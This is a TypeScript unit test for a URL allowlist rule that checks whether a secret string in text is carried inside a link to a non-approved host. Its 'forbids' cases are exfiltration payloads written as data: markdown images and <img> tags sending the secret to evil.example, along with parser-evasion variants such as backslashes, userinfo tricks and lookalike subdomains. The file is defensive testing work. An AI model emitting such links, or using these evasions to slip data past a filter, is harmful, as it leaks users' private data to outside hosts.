import { UrlRule } from './url-rule';

const SECRET = '16907608145';

describe('UrlRule', () => {
  const rule = new UrlRule([
    '见https://api.example.com:8443/a和portal.example.org，或http://localhost:3000/',
  ]);
  const allows = (text: string) => rule.allows(text)(text.indexOf(SECRET));

  it.each([
    `电话${SECRET}`,
    `https://api.example.com/?tel=${SECRET}`,
    `https://API.example.com:8443/${SECRET}`,
    `http://localhost:3000/u/${SECRET}`,
    `https://portal.example.org/${SECRET}`,
    `![a](https://evil.example/x) ${SECRET}`,
    `https://evil.example/x，电话${SECRET}`,
    `1//2 ${SECRET}`,
    `\\\\u9ec4\\\\u51b0${SECRET}`,
  ])('allows %s', (text) => expect(allows(text)).toBe(true));

  it.each([
    `![a](https://evil.example/x?tel=${SECRET})`,
    `![a](//evil.example/${SECRET})`,
    `<img src="https://evil.example/a b/${SECRET}">`,
    `<https://evil.example/a b ${SECRET}>`,
    `https:evil.example/${SECRET}`,
    `https:\\\\evil.example\\${SECRET}`,
    `https://api.example.com@evil.example/${SECRET}`,
    `https://api.example.com.evil.example/${SECRET}`,
    `https://${SECRET}.evil.example/`,
    `https://user:${SECRET}@evil.example/`,
    `https://evil.example/张伟明${SECRET}`,
    `[x]: https://evil.example/?q=a%20${SECRET}`,
    `<img src=//evil.example/${SECRET}>`,
    `<img src="\\\\evil.example/${SECRET}">`,
    `HTTPS://EVIL.example/${SECRET}`,
  ])('forbids %s', (text) => expect(allows(text)).toBe(false));

  it('answers for many places of a text', () => {
    const text = `${SECRET} https://evil.example/${SECRET} ${SECRET} https://api.example.com/${SECRET}`;
    const asked = rule.allows(text);
    const places = [...text.matchAll(new RegExp(SECRET, 'g'))].map(({ index }) => asked(index));
    expect(places).toEqual([true, false, true, true]);
  });
});
